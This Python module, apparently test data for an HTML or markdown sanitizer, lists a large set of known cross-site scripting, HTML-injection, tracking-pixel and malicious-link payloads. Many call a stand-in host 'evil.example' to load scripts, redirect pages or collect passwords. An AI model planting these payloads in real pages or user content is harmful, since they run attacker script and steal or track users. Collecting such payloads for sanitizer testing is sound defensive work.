"""What attackers have put into text fields: well-known cross-site scripting and tracking payloads, each one a text."""

EVIL = "https://evil.example"

_SCRIPTS = f"""
<script>alert(1)</script>
<SCRIPT SRC={EVIL}/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<script\t>alert(1)</script>
<script>alert(1)//
<script>alert(1)<!--
<<script>alert(1);//<</script>
<script x>alert(1)</script 1=2
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<noembed><script>alert(1)</script></noembed>
<script type=module>import "{EVIL}/m.js"</script>
<script type=text/vbscript>msgbox(1)</script>
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
<script >alert(1)</script >
"""

_HANDLERS = f"""
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=alert(1) onload=alert(2)>
<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>">
<img src=`x` onerror=alert(1)>
<img ''><script>alert(1)</script>
<body onload=alert(1)>
<body background=javascript:alert(1)>
<b onmouseover=alert(1)>x</b>
<a onclick=alert(1)>x</a>
<p onpointerenter=alert(1)>x</p>
<div onfocus=alert(1) tabindex=1 autofocus id=x>x</div>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1) autofocus>x</button>
<video onloadstart=alert(1) src=x></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<object onerror=alert(1) data=x></object>
<style onload=alert(1)></style>
<frameset onload=alert(1)>
<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
<b style="animation-name:x" onanimationstart=alert(1)>x</b>
<br size="&{{alert(1)}}">
<x contenteditable onblur=alert(1)>x</x>
<img src=x onerror\x0b=alert(1)>
<img src=x one\x00rror=alert(1)>
<a href="x" hx-on:click="alert(1)" hx-get="{EVIL}/" hx-trigger="load">x</a>
<p data-hx-get="{EVIL}/" data-hx-trigger="load">x</p>
<p x-data x-init="alert(1)">x</p>
<a data-confirm data-upload data-key="c">x</a>
"""

_VECTORS = f"""
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href={EVIL}/x.js></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><image href="{EVIL}/i.png"/></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><noscript></desc><img src=x onerror=alert(1)></svg>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></table>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><mi><table><a><mi><a href="javascript:alert(1)">x</a></mi></a></table></mi></math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src={EVIL}></iframe>
<iframe src="data:text/html,<script>alert(1)</script>">
<embed src={EVIL}/x.swf>
<embed src=javascript:alert(1)>
<object data={EVIL}/x></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<applet code=x codebase={EVIL}></applet>
<portal src={EVIL}></portal>
<base href={EVIL}/>
<base target=x><a href=/x>x</a>
<meta http-equiv=refresh content="0;url={EVIL}">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src 'none'">
<meta name=referrer content=unsafe-url>
<link rel=stylesheet href={EVIL}/x.css>
<link rel=prefetch href={EVIL}/x>
<link rel=import href={EVIL}/x>
<link rel=dns-prefetch href=//evil.example>
<link rel=manifest href={EVIL}/m>
<form action={EVIL}><input name=p type=password><button>x</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=x></form><button form=x formaction={EVIL}>x</button>
<input type=image src={EVIL}/x.png>
<isindex action=javascript:alert(1) type=image>
<style>@import '{EVIL}/x.css';</style>
<style>body{{background:url({EVIL}/x.png)}}</style>
<style>*{{display:none}}</style>
<p style="background:url({EVIL}/x.png)">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url({EVIL}/x.xml#x)">x</p>
<p class="button primary danger" id="live">x</p>
<a id=csrfmiddlewaretoken name=csrfmiddlewaretoken>x</a>
<img name=body><img name=cookie>
<dialog open>x</dialog>
<slot name=x></slot>
<bgsound src={EVIL}/x.mid>
<layer src={EVIL}/x.js></layer>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<%<img src=x onerror=alert(1)>%>
<?php echo '<script>alert(1)</script>' ?>
</p></div></main></body></html><script>alert(1)</script>
"""

_LOADING = f"""
<img src={EVIL}/pixel.png>
<img src=//evil.example/pixel.png>
<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">
<img lowsrc={EVIL}/x.png dynsrc={EVIL}/y.png>
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<picture><source srcset={EVIL}/x.png><img></picture>
<video poster={EVIL}/x.png src={EVIL}/x.mp4></video>
<audio autoplay src={EVIL}/x.mp3></audio>
<track src={EVIL}/x.vtt>
<a href={EVIL} ping={EVIL}/ping>x</a>
<a href={EVIL} target=_blank rel=opener>x</a>
<a href={EVIL} download>x</a>
<blockquote cite={EVIL}/x>x</blockquote>
<q cite={EVIL}/x>x</q>
<ins cite={EVIL}/x>x</ins>
<body background={EVIL}/x.png>
<table background={EVIL}/x.png>
![]({EVIL}/pixel.png)
![x](//evil.example/pixel.png)
![x][r]\x1e\x1e[r]: {EVIL}/pixel.png
[![x]({EVIL}/pixel.png)]({EVIL}/click)
![x](data:image/png;base64,iVBORw0KGgo=)
![x](javascript:alert(1))
![x]({EVIL}/x.png"onerror="alert(1))
![x]({EVIL}/x.png "x\" onerror=\"alert(1)")
![<img src=x onerror=alert(1)>]({EVIL}/x.png)
![" onload="alert(1)]({EVIL}/x.png)
![x](<{EVIL}/a b" onerror=alert(1)>)
"""

_LINKS = f"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x]( javascript:alert(1))
[x](java\tscript:alert(1))
[x](java&#x0A;script:alert(1))
[x](&#x6A;avascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](\x01javascript:alert(1))
[x](<javascript:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](ftp://evil.example/x)
[x](tel:+905551112233)
[x](blob:{EVIL}/x)
[x](about:blank)
[x](view-source:{EVIL})
[x](intent://x#Intent;scheme=http;end)
[x](//evil.example)
[x](/\\evil.example)
[x](\\\\evil.example)
[x](/accounts/logout/)
[x](?page=2)
[x](#x)
[x]({EVIL}" onclick="alert(1))
[x]({EVIL} "x" onclick="alert(1)")
[x]({EVIL} '"><script>alert(1)</script>')
[x]({EVIL}/<script>alert(1)</script>)
[<img src=x onerror=alert(1)>]({EVIL})
[x][r]\x1e\x1e[r]: javascript:alert(1)
[x][r]\x1e\x1e[r]: {EVIL} "x\" onmouseover=\"alert(1)"
[r]: <javascript:alert(1)>\x1e\x1e[r]
<javascript:alert(1)>
<vbscript:msgbox(1)>
<data:text/html,x>
<{EVIL}/"onmouseover="alert(1)>
<x"onmouseover=alert(1)@evil.example>
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=javascript:alert(1)//{EVIL}>x</a>
{EVIL}/"onmouseover="alert(1)
{EVIL}/'onmouseover='alert(1)
{EVIL}/<img src=x onerror=alert(1)>
{EVIL}/`onmouseover=alert(1)
{EVIL}/?a=1&b=<script>alert(1)</script>
{EVIL}/&quot;onmouseover=&quot;alert(1)
javascript:alert(1)//http://evil.example
http://javascript:alert(1)
http://evil.example:alert(1)/
http://[::1
http://user:secret@evil.example/
https:evil.example
http:///evil.example
**[x](javascript:alert(1))**
> [x](javascript:alert(1))
- [x](javascript:alert(1))
| [x](javascript:alert(1)) |\x1e|-|\x1e| ![x]({EVIL}/p.png) |
```html" onmouseover="alert(1)\x1e<img src=x onerror=alert(1)>\x1e```
~~~\x1e</code></pre><script>alert(1)</script>\x1e~~~
`<img src=x onerror=alert(1)>`
    <img src=x onerror=alert(1)>
# <img src=x onerror=alert(1)>
1. <svg onload=alert(1)>
*<b onclick=alert(1)>*
~~<script>alert(1)</script>~~
\\<script>alert(1)\\</script>
{{{{ 7*7 }}}} {{% load x %}} ${{alert(1)}} #{{7*7}}
"""


def _lines(block: str) -> list[str]:
    return [line.replace("\x1e", "\n") for line in block.split("\n") if line.strip()]


PAYLOADS = [text for block in (_SCRIPTS, _HANDLERS, _VECTORS, _LOADING, _LINKS) for text in _lines(block)]
